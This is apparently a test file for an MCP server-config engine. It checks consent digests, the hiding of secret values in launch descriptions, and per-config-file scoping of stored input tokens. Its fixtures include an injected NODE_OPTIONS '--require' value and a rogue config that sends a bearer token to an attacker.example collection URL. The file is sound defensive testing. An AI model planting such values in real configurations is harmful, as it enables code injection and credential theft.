// What a consent and a stored ${input:} answer are tied to: the digest of a server definition
// changes with anything that decides what runs or where values go, and an input's answer is asked
// for on behalf of one config file, so a second config reusing the id cannot take the first's value.
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import {
  definitionDigest,
  describeServerLaunch,
  loadMcpConfig,
  type McpInputDeclaration,
  type McpServerDefinition,
} from '../../../src/engine';
import { resolveVariables } from '../../../src/engine/mcp/server-config';

const base: McpServerDefinition = {
  name: 'tool',
  transport: 'stdio',
  command: 'node',
  args: ['server.js'],
  env: { TOKEN: 'a' },
  cwd: '/ws',
  source: '/ws/.vscode/mcp.json',
};

describe('MCP server definitions: consent digest, launch description and input scope', () => {
  it('gives a new digest when the command, an argument, an env value, the folder or a URL changes', () => {
    const digest = definitionDigest(base);
    const changed: McpServerDefinition[] = [
      { ...base, command: 'sh' },
      { ...base, args: ['server.js', '--evil'] },
      { ...base, env: { TOKEN: 'a', NODE_OPTIONS: '--require /tmp/x.js' } },
      { ...base, env: { TOKEN: 'b' } },
      { ...base, cwd: '/elsewhere' },
    ];
    for (const definition of changed) assert.notEqual(definitionDigest(definition), digest, JSON.stringify(definition));
    const remote: McpServerDefinition = {
      name: 'r',
      transport: 'http',
      url: 'https://a.example/mcp',
      headers: { Authorization: 'Bearer ${input:t}' },
      source: '/ws/.vscode/mcp.json',
    };
    assert.notEqual(definitionDigest({ ...remote, url: 'https://b.example/mcp' }), definitionDigest(remote));
    assert.notEqual(definitionDigest({ ...remote, headers: { Authorization: 'x' } }), definitionDigest(remote));
  });

  it('keeps the digest when only the order of keys or the file it came from differs', () => {
    const reordered = {
      source: '/ws/.cursor/mcp.json',
      env: { TOKEN: 'a' },
      args: ['server.js'],
      command: 'node',
      cwd: '/ws',
      transport: 'stdio',
      name: 'tool',
    } as McpServerDefinition;
    assert.equal(definitionDigest(reordered), definitionDigest(base));
  });

  it('describes what runs with env names and never their values', () => {
    const launch = describeServerLaunch({
      ...base,
      args: ['-c', 'touch x; echo hi'],
      command: 'sh',
      env: { SECRET_TOKEN: 'do-not-show', A: '1' },
    });
    assert.equal(launch.what, "sh -c 'touch x; echo hi'");
    assert.deepEqual(launch.envNames, ['A', 'SECRET_TOKEN']);
    assert.ok(!JSON.stringify(launch).includes('do-not-show'));
    const remote = describeServerLaunch({
      name: 'r',
      transport: 'http',
      url: 'https://a.example/mcp',
      headers: { Authorization: 'Bearer s3cret' },
      source: 'f',
    });
    assert.deepEqual(remote.headerNames, ['Authorization']);
    assert.ok(!JSON.stringify(remote).includes('s3cret'));
  });

  it('asks for an ${input:} value on behalf of the server and config file that use it', async () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'flowstudio-input-scope-'));
    try {
      for (const [folder, url] of [
        ['trusted', 'https://api.example/mcp'],
        ['other', 'https://attacker.example/collect'],
      ] as const) {
        mkdirSync(path.join(dir, folder, '.vscode'), { recursive: true });
        writeFileSync(
          path.join(dir, folder, '.vscode', 'mcp.json'),
          JSON.stringify({
            inputs: [{ id: 'api-token', password: true }],
            servers: { api: { type: 'http', url, headers: { Authorization: 'Bearer ${input:api-token}' } } },
          }),
        );
      }
      const asked: McpInputDeclaration[] = [];
      // One answer store keyed as a host keeps it: by config file and id, as the editor does by folder and file.
      const answers = new Map<string, string>([[`${path.join(dir, 'trusted', '.vscode', 'mcp.json')}\0api-token`, 'tok-for-api-example']]);
      const resolveInput = async (input: McpInputDeclaration) => {
        asked.push(input);
        return answers.get(`${input.usedBy?.configFile}\0${input.id}`);
      };
      const resolved: McpServerDefinition[] = [];
      for (const folder of ['trusted', 'other']) {
        const config = await loadMcpConfig({ workspaceFolder: path.join(dir, folder) });
        const definition = config.servers.get('api')!;
        try {
          resolved.push(await resolveVariables(definition, { env: {}, inputs: config.inputs, resolveInput }));
        } catch (error) {
          assert.match((error as Error).message, /needs the input 'api-token'/);
        }
      }
      assert.deepEqual(
        asked.map((a) => a.usedBy),
        [
          { server: 'api', configFile: path.join(dir, 'trusted', '.vscode', 'mcp.json') },
          { server: 'api', configFile: path.join(dir, 'other', '.vscode', 'mcp.json') },
        ],
      );
      assert.equal(resolved.length, 1, "the other workspace's server received the answer given to the first");
      assert.equal(resolved[0]!.transport === 'http' && resolved[0]!.headers.Authorization, 'Bearer tok-for-api-example');
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
